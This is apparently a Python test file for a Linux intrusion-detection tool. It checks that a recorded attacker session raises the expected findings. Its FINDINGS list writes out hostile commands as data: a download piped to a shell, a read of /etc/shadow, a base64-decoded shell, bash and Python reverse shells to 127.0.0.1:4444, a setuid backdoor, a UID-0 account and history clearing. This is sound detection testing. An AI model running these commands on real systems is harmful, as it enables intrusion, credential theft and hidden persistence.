# SPDX-License-Identifier: Apache-2.0
"""The recording that ships with the project, under the default rules."""
import json
import unittest

from program import ROOT, Case

EXAMPLES = ROOT / "examples"

# What each step of examples/session.sh must raise, in its order.
FINDINGS = [
    ("sh -c curl -s http://127.0.0.1:8123/setup.sh | sh", "medium", "Download Piped to a Shell"),
    ("cat /etc/shadow", "medium", "Shadow File Named on a Command Line"),
    ("/tmp/x", "low", "Program Started From a World-Writable Folder"),
    ("/dev/shm/.cache", "high", "Program Started From Shared Memory"),
    ("/dev/shm/.cache", "low", "Program Started From a World-Writable Folder"),
    ("/dev/shm/.cache", "medium", "Program With a Hidden File Name"),
    ("sh -c echo ZWNobyBoaQ== | base64 -d | sh", "high", "Base64 Text Decoded Into a Shell"),
    ("chmod u+s backdoor", "medium", "Setuid or Setgid Bit Set From the Command Line"),
    ("bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "high", "Shell Redirected to a Network Pseudo Device"),
    ('python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));'
     'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
     "high", "Python One-Liner With Socket and Shell"),
    # The script's own shell writes these three.
    ("sh /root/demo.sh", "medium", "SSH Authorised Keys Changed"),
    ("sh /root/demo.sh", "medium", "Cron Table Written by an Unusual Program"),
    ("sh /root/demo.sh", "high", "Sudo Rules Written"),
    ("useradd -o -u 0 -M toor", "high", "Account Created With User Id Zero"),
    ("bash -c unset HISTFILE; history -c", "medium", "Shell History Cleared or Disabled"),
]


class Example(Case):
    def test_recording__replayed_here__same_findings_as_where_it_was_made(self):
        self.write("linux-session.sonda", (EXAMPLES / "linux-session.sonda").read_bytes())

        self.run_it("replay", "--output", "matches", "linux-session.sonda")

        self.expect(0, lines=0)
        self.assertEqual(self.out, (EXAMPLES / "linux-session.expected.tsv").read_text())

    def test_recording__replayed__each_step_of_the_intruder_is_found(self):
        self.run_it("replay", "--output", "findings", str(EXAMPLES / "linux-session.sonda"))

        self.expect(0, lines=0)
        found = [json.loads(line) for line in self.out.splitlines()]
        self.assertEqual(
            sorted((f["event"]["fields"]["CommandLine"], f["level"], f["rule"]["title"]) for f in found),
            sorted(FINDINGS))

    def test_recording__holds_nothing_unreadable(self):
        self.run_it("inspect", str(EXAMPLES / "linux-session.sonda"))

        self.expect(0, lines=0)
        self.assertRegex(self.out, r"unreadable +0\n")


if __name__ == "__main__":
    unittest.main()
